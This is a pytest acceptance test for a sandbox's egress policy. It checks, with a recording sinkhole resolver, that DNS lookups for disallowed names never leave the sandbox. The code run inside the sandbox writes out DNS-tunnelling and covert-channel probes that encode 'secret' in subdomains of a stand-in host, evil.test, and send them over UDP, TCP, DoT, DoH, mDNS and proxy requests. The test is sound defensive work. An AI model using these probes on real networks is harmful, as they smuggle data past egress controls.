"""DNS says nothing: acceptance test 2 of the policy plane. The host's resolver is one that notes what it is asked."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from tests.conftest import stop_gateway

# In a mount namespace of its own, where the host's resolver is a sinkhole: what any process of paddock's asks for
# arrives there. Prints the names that were asked for, and what the programs inside were told.
_SCENE = r"""
import ctypes, json, os, socket, struct, sys, threading
libc = ctypes.CDLL(None, use_errno=True)
assert libc.unshare(0x20000) == 0
assert libc.mount(b"none", b"/", None, 0x44000, None) == 0
state, address = sys.argv[1], sys.argv[2]
servers = f"nameserver {address}\noptions timeout:2 attempts:1\n"
for name, text in (("resolv.conf", servers), ("nsswitch.conf", "hosts: files dns\n")):
    path = os.path.join(state, name)
    with open(path, "w") as file: file.write(text)
    assert libc.mount(path.encode(), os.path.realpath("/etc/" + name).encode(), None, 4096, None) == 0, name
asked = []
sink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sink.bind((address, 53))
def serve():
    while True:
        query, client = sink.recvfrom(4096)
        labels, at = [], 12
        while query[at]:
            labels.append(query[at + 1 : at + 1 + query[at]].decode("latin-1")); at += 1 + query[at]
        asked.append(".".join(labels).lower())
        sink.sendto(query[:2] + b"\x81\x83" + query[4:6] + bytes(6) + query[12 : at + 5], client)  # NXDOMAIN
threading.Thread(target=serve, daemon=True).start()

from paddock import Sandbox
from paddock._compose import connector
policy = {"egress": {"allow": [{"host": "good.test"}, {"host": "*.wide.test"}]}}
told = []
with Sandbox.create(policy=policy) as sandbox:
    for user in ("user", "root"):
        done = sandbox.exec(("python3", "-c", sys.argv[3]), user=None if user == "user" else user, timeout_seconds=90)
        assert done.exit_code == 0, done
        told.append(json.loads(done.stdout))
    silent = list(asked)
    sandbox.exec("curl -s -m 20 http://good.test/; true")  # the twin: what is allowed is asked for
print(json.dumps({"silent": silent, "asked": asked, "told": told}))
connector.close()
"""

_INSIDE = r"""
import json, socket, struct
def question(name, kind):
    labels = b"".join(bytes((len(part),)) + part.encode() for part in name.split("."))
    return b"\x12\x34\x01\0\0\1\0\0\0\0\0\0" + labels + b"\0" + struct.pack("!HH", kind, 1)
def ask(to, name, kind, port=53):
    with socket.socket(socket.AF_INET6 if ":" in to else socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(20)
        try:
            s.sendto(question(name, kind), (to, port)); return s.recv(999)[3] & 15
        except OSError as error: return type(error).__name__
def said(to, port, data):
    try:
        with socket.create_connection((to, port), 20) as s:
            s.sendall(data); return s.recv(99).split(b"\r\n")[0].decode("latin-1")
    except OSError as error: return type(error).__name__
def resolve(name):
    try: return socket.getaddrinfo(name, 80)[0][4][0]
    except OSError: return "none"
evil = "c2VjcmV0.evil.test"
found = {"getaddrinfo": resolve(evil), "below": resolve("c2VjcmV0.good.test"), "allowed": resolve("good.test")}
for to in ("8.8.8.8", "127.0.0.53", "127.0.0.1", "2001:4860:4860::8888", "198.18.0.1"):
    for kind in (1, 28, 16, 10, 255): found[f"{to} {kind}"] = ask(to, evil, kind)
found["txt"] = ask("8.8.8.8", "good.test", 16)
found["mdns"] = ask("224.0.0.251", "c2VjcmV0.local", 1, 5353)
framed = question(evil, 1)
found["tcp"] = said("8.8.8.8", 53, struct.pack("!H", len(framed)) + framed) is not None
found["dot"] = said("9.9.9.9", 853, b"\x16\x03\x01\0\x05hello")
found["doh"] = said("1.1.1.1", 80, b"GET /dns-query?name=c2VjcmV0.evil.test HTTP/1.1\r\nhost: 1.1.1.1\r\n\r\n")
head = b" HTTP/1.1\r\nhost: c2VjcmV0.evil.test\r\n\r\n"
found["absolute"] = said("198.18.0.1", 3128, b"GET http://c2VjcmV0.evil.test/" + head)
found["connect"] = said("198.18.0.1", 3128, b"CONNECT c2VjcmV0.evil.test:80" + head)
found["host"] = said("1.2.3.4", 80, b"GET /" + head)
print(json.dumps(found))
"""


@pytest.mark.root
def test_a_name_that_is_not_allowed_leaves_the_sandbox_in_no_question(shared_state: Path) -> None:
    stop_gateway(shared_state)  # one that other tests have left asks the machine's resolver
    with tempfile.TemporaryDirectory(prefix="pd-") as directory:
        done = subprocess.run(
            [sys.executable, "-c", _SCENE, directory, "127.0.0.77", _INSIDE],
            env={**os.environ, "PADDOCK_STATE_DIR": str(shared_state)},
            capture_output=True,
            text=True,
            timeout=110,
            check=False,
        )
    assert done.returncode == 0, done.stderr[-3000:]
    report = json.loads(done.stdout.splitlines()[-1])
    for told in report["told"]:
        assert (told["getaddrinfo"], told["below"]) == ("none", "none")
        assert told["allowed"].startswith("198.18.")
        answers = {got for what, got in told.items() if what[-1].isdigit()}
        assert answers == {3}, "no such name"
        assert (told["txt"], told["mdns"]) == (0, "PermissionError")
        for way in ("dot", "doh", "absolute", "connect", "host"):
            assert not told[way].startswith(("HTTP/1.1 2", "HTTP/1.1 3", "HTTP/1.1 5")), way
    assert report["silent"] == [], "nobody outside was asked"
    assert set(report["asked"]) == {"good.test"}, "and the sinkhole would have heard it"
